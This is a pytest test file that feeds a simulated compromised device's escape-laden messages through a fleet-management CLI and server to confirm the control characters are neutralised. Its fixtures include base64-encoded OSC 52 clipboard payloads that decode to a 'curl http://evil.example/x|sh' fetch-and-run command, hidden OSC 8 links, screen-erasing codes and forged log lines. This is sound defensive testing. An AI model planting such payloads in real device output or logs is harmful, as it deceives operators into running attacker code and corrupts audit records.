"""What one compromised device can put in front of operators (review, December 2026).

A real `nanofleet server run` and a real Mosquitto; the device publishes only on its own
topics (status, ota, alerts, metrics, artifact requests), every string it chooses carrying
escape codes: CSI (erase the line, colour), OSC 8 (a hidden link), OSC 52 (write the
operator's clipboard), C1 CSI (U+009B), CR, LF and a bidi override (U+202E). The operator
runs the real `nanofleet` commands that print device text: none of those characters may
reach the terminal (before: `devices list|show` and `rollout status` printed them raw).
The server's log gets no line the device wrote, and the fleet's fine-tune export survives
the device's lines.
"""

from __future__ import annotations

import io
import json
import sqlite3
import time
from collections.abc import Callable, Iterator
from contextlib import redirect_stderr, redirect_stdout
from dataclasses import dataclass
from pathlib import Path

import pytest

from contract import topics
from contract.bundle_features import BUNDLE_FEATURES
from contract.messages import MAX_OTA_DETAIL_CHARS, Metrics, ModelInfo, OtaEvent, Status
from fleet_server.cli import main
from fleet_server.client import ApiCallError, ApiClient
from hil.fleet import FleetSetup
from nanomodel.dataio import load_labeled
from tests.support.alert_fleet import alert, alert_fleet, api, send_alerts, wait_alerts
from tests.support.fleet_cli import nf
from tests.support.mosquitto import Mosquitto
from tests.support.mqtt_client import Collector
from tests.support.rollout_rig import publish, relabeled, wait_rollout

DEV = "pump-07"
OSC52 = "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3h8c2gK\x07"  # clipboard: curl ...|sh
AGENT_VERSION = "1.4.2" + OSC52
MODEL_NAME = "nano-logs\x1b]8;;http://evil.example/\x1b\\v9\x1b]8;;\x1b\\"  # OSC 8 link
# Erase the row, print a green "committed" over it; a line of its own for the log.
REASON = "\x1b[2K\r\x1b[32mcommitted\x1b[0m\n1999-12-31 ERROR nanofleet: disk full"
DETAIL = ("\x1b[1A\x1b[2K\rall good\n1999-12-31 fake line \x9b31m\u202eeurt\u202c "
          "\x1b]8;;http://evil.example/\x07link\x1b]8;;\x07" + OSC52)
READS_EXTRA = "future\x1b]0;x\x07"  # a title-setting OSC in a feature name
SOURCE = "/var/log/pump.log\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2K\r"
TEXT = "Motor fault P1\x1b[2K\r\x1b[32mok\x1b[0m \u202eresu-tseug\u202c\u2028second half"
FORGED = "1999-12-31 09:00:00,000 INFO nanofleet.server.auth: operator token 'admin' revoked"


@dataclass
class Hostile:
    setup: FleetSetup
    broker: Mosquitto
    rollout_id: str
    alert_id: int


def controls(text: str) -> list[str]:
    """The characters of ``text`` a terminal would obey rather than show (line breaks
    aside)."""
    return sorted({c for c in text if not c.isprintable() and c != "\n"})


def wait_for(pred: Callable[[], bool], timeout: float = 15.0, what: str = "condition"
             ) -> None:
    deadline = time.monotonic() + timeout
    while not pred():
        if time.monotonic() > deadline:
            raise TimeoutError(what)
        time.sleep(0.2)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
    work = tmp_path_factory.mktemp("operator-output")
    with alert_fleet(work) as (setup, broker):
        device = Collector(broker.port, [f"nanofleet/v1/dev/{DEV}/nothing"])
        try:
            device.publish(topics.status(DEV), Status(
                seq=1, device_id=DEV, state="online", agent_version=AGENT_VERSION,
                started_at=time.time(), models=[ModelInfo(
                    slot="logs", name=MODEL_NAME, version=1, label="v1\u202e\r",
                    runtime="onnx\x9b2K", sha256="a" * 60 + "\x1b[2K")],
                # Today's agent reads the v2 bundle (else the rollout skips it), and says
                # one more name with an escape in it.
                reads=[*sorted(BUNDLE_FEATURES), READS_EXTRA]).model_dump_json())
            wait_for(lambda: api(setup, "GET", f"/api/v1/devices/{DEV}").status_code == 200,
                     what="the device's status")
            publish(setup, relabeled(2, work / "v2.nfb"))
            r = api(setup, "POST", "/api/v1/rollouts", json={
                "model": "nano-logs", "version": 2, "select": {"ids": [DEV]},
                "strategy": {"canary": 1, "waves": [100], "soak_s": 0}})
            assert r.status_code in (200, 201), r.text
            rollout_id = r.json()["id"]
            wait_rollout(setup, rollout_id, lambda x: x["counts"].get("notified", 0) == 1,
                         what="the device notified")
            device.publish(topics.ota(DEV), OtaEvent(
                seq=2, device_id=DEV, slot="logs", state="failed", from_version=1,
                to_version=2, rollout_id=rollout_id, reason=REASON,
                detail=DETAIL).model_dump_json())
            # The server's log: a refused report names the device's own field, an artifact
            # request names its path; both carry a line of the device's.
            metrics = json.loads(Metrics(seq=3, device_id=DEV, uptime_s=1, counters={},
                                         gauges={}).model_dump_json())
            metrics[f"x\n{FORGED} [A]\x1b[2K"] = 1
            device.publish(topics.metrics(DEV), json.dumps(metrics))
            device.publish(topics.artifact_requests(DEV), json.dumps({
                "transfer": "t1", "path": f"targets/x\n{FORGED} [B]\x1b[2K", "offset": 0,
                "chunks": 1, "chunk_size": 1024}))
        finally:
            device.close()
        wait_rollout(setup, rollout_id, lambda x: x["status"] == "halted", what="the halt")
        send_alerts(broker, [alert(DEV, "hostile-1", 10, SOURCE, TEXT, "hardware")])
        [stored] = wait_alerts(setup, 1, DEV)
        r = api(setup, "POST", f"/api/v1/alerts/{stored['id']}/mute", json={
            "days": 7, "all_devices": False, "any_source": False, "reason": "noise"})
        assert r.status_code in (200, 201), r.text
        yield Hostile(setup, broker, rollout_id, stored["id"])


def client_args(setup: FleetSetup) -> list[str]:
    return ["--server", setup.url, "--token", setup.token]


COMMANDS = {
    "devices list": ["devices", "list"],
    "devices show": ["devices", "show", DEV],
    "rollout status": ["rollout", "status", "{rollout}", "--devices", "--log", "50"],
    "alerts list": ["alerts", "list", "--device", DEV],
    "alerts shapes": ["alerts", "shapes"],
    "alerts mute": ["alerts", "mute", "{alert}"],
    "mutes list": ["mutes", "list"],
    "alerts verdict": ["alerts", "verdict", "{alert}", "right"],
    "alerts export": ["alerts", "export", "--out", "-", "--with-source"],
}


@pytest.mark.parametrize("command", list(COMMANDS))
def test_no_control_character_of_a_device_reaches_the_operators_terminal(
        hostile: Hostile, command: str) -> None:
    argv = [a.format(rollout=hostile.rollout_id, alert=hostile.alert_id)
            for a in COMMANDS[command]]
    code, out, err = nf(*argv, *client_args(hostile.setup))
    assert code == 0, err
    assert controls(out) == [] and controls(err) == [], (out, err)
    assert DEV in out + err or command == "alerts export"
    # Nor does a line break in a device's string start a line (a row) of its own.
    assert not [line for line in (out + err).split("\n")
                if line.lstrip().startswith("1999-12-31")], out


def test_the_device_text_is_shown_not_dropped(hostile: Hostile) -> None:
    _, listed, _ = nf("devices", "list", *client_args(hostile.setup))
    assert "1.4.2?]52;c;" in listed  # each escape character a "?", the rest as sent
    _, shown, _ = nf("devices", "show", DEV, *client_args(hostile.setup))
    assert "?[2K ?[32mcommitted?[0m 1999-12-31 ERROR" in shown
    assert "?eurt? " in shown  # the bidi override shown, not obeyed
    assert "future?]0;x?, known_programs, level_offsets, tokenizer.head:time-host-v1" \
        in shown  # it reads


def test_json_output_keeps_what_the_device_sent(hostile: Hostile) -> None:
    """--json is the API's JSON, escaped by json.dumps and printed unchanged."""
    code, out, _ = nf("devices", "show", DEV, "--json", *client_args(hostile.setup))
    assert code == 0 and controls(out) == []
    doc = json.loads(out)
    assert doc["agent_version"] == AGENT_VERSION
    assert doc["last_ota"]["reason"] == REASON
    assert doc["models"]["logs"]["name"] == MODEL_NAME
    assert doc["reads"] == sorted([*BUNDLE_FEATURES, READS_EXTRA])  # stored sorted


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_watch_keeps_its_own_redraw_and_nothing_else(hostile: Hostile) -> None:
    out, err = Terminal(), io.StringIO()
    with redirect_stdout(out), redirect_stderr(err):
        code = main(["rollout", "status", hostile.rollout_id, "--watch", "--devices",
                     *client_args(hostile.setup)])
    assert code == 1  # halted
    text = out.getvalue()
    assert text.startswith("\x1b[H\x1b[J")  # home + clear, the CLI's own
    assert controls(text.removeprefix("\x1b[H\x1b[J")) == [], text
    assert "halt:" in text and controls(err.getvalue()) == []


@pytest.mark.unit
def test_error_messages_are_made_printable_too(monkeypatch: pytest.MonkeyPatch) -> None:
    """An error quotes the server's message, which may quote a device's text."""
    def refuse(*_args: object, **_kwargs: object) -> None:
        raise ApiCallError(f"device {DEV} said {SOURCE}\u202e", 422, "invalid-verdict")
    monkeypatch.setattr(ApiClient, "get", refuse)
    code, out, err = nf("devices", "list", "--server", "http://127.0.0.1:9", "--token", "t")
    assert code == 1 and out == ""
    assert err.startswith(f"error: device {DEV} said /var/log/pump.log?]52;c;")
    assert controls(err) == [], err


@pytest.mark.unit
def test_an_ota_events_detail_is_bounded_not_refused() -> None:
    """A device's detail was unbounded; the agent builds details from exception texts of
    any length, so a longer one is cut, never refused (that would lose the state change)."""
    event = OtaEvent(seq=1, device_id=DEV, slot="logs", state="failed", detail="x" * 10_000)
    assert event.detail is not None and len(event.detail) == MAX_OTA_DETAIL_CHARS
    wire = json.loads(event.model_dump_json()) | {"detail": "y" * 100_000}
    received = OtaEvent.model_validate_json(json.dumps(wire)).detail
    assert received == "y" * (MAX_OTA_DETAIL_CHARS - 1) + "…"
    assert OtaEvent(seq=1, device_id=DEV, slot="logs", state="failed", detail=DETAIL
                    ).detail == DETAIL


def server_log(setup: FleetSetup) -> str:
    return (setup.workdir / "server.log").read_bytes().decode("utf-8", "replace")


def test_the_server_log_has_no_line_a_device_wrote(hostile: Hostile) -> None:
    setup = hostile.setup
    wait_for(lambda: all(s in server_log(setup) for s in (
        "device report refused", "artifact request of", "halt")), what="the log lines")
    log = server_log(setup)
    lines = log.split("\n")
    assert not [line for line in lines if line.startswith(("1999-12-31", "ERROR nanofleet"))]
    assert "\x1b" not in log and "\r" not in log and "\x9b" not in log
    # The device's own text as Python literals: quoted (!r) where it is quoted, escaped.
    [refused] = [line for line in lines if "device report refused" in line]
    assert refused.split("device report refused: ", 1)[1].startswith('"nanofleet/v1/dev/')
    assert "x\\n1999-12-31 09:00:00,000 INFO" in refused and "\\x1b[2K" in refused
    [artifact] = [line for line in lines if "artifact request of" in line]
    assert 'not-found "targets/x\\n1999-12-31' in artifact  # repr's " around 'admin'
    halted = [line for line in lines if f"rollout {hostile.rollout_id}: '" in line
              and "disk full" in line]
    assert halted and all("\\x1b[2K\\r\\x1b[32mcommitted" in line for line in halted)


def test_the_fleets_export_survives_one_devices_lines(hostile: Hostile, tmp_path: Path
                                                      ) -> None:
    """A line separator (U+2028) in a device's line no longer splits its row in the
    export, which failed every reader of it; a verdict kept on a label that is not a label
    (before the check) is left out, with a warning, not exported as one."""
    setup = hostile.setup
    send_alerts(hostile.broker, [alert("pump-01", "ok-1", 1, "/var/log/pump.log",
                                       "Temperature 91C on sensor T3", "thermal")])
    [good] = wait_alerts(setup, 1, "pump-01")
    for alert_id in (hostile.alert_id, good["id"]):
        assert api(setup, "POST", f"/api/v1/alerts/{alert_id}/verdict",
                   json={"verdict": "right"}).status_code == 200
    db = sqlite3.connect(setup.config.data_dir / "fleet.db")
    try:
        with db:  # as a server before the check kept "right" on a device's label
            db.execute("INSERT INTO alert_verdicts (alert_msg_id, device_id, verdict, label, "
                       "alert_label, model_version, source, text, at, actor) VALUES "
                       "('old-1', ?, 'right', 'normal ', 'normal ', 1, 's', "
                       "'Invalid user root from 203.0.113.7', ?, 'operator')",
                       (DEV, time.time()))
    finally:
        db.close()
    out = tmp_path / "site.jsonl"
    code, printed, err = nf("alerts", "export", "--out", str(out), *client_args(setup))
    assert code == 0, err
    assert "wrote 2 lines" in printed and "hardware 1" in printed and "thermal 1" in printed
    assert "left out 1 verdict(s)" in err
    raw = out.read_bytes()
    assert raw.isascii() and len(raw.decode().splitlines()) == 2
    data = load_labeled(out)
    assert sorted(zip(data.labels, data.texts, strict=True)) == [
        ("hardware", TEXT), ("thermal", "Temperature 91C on sensor T3")]
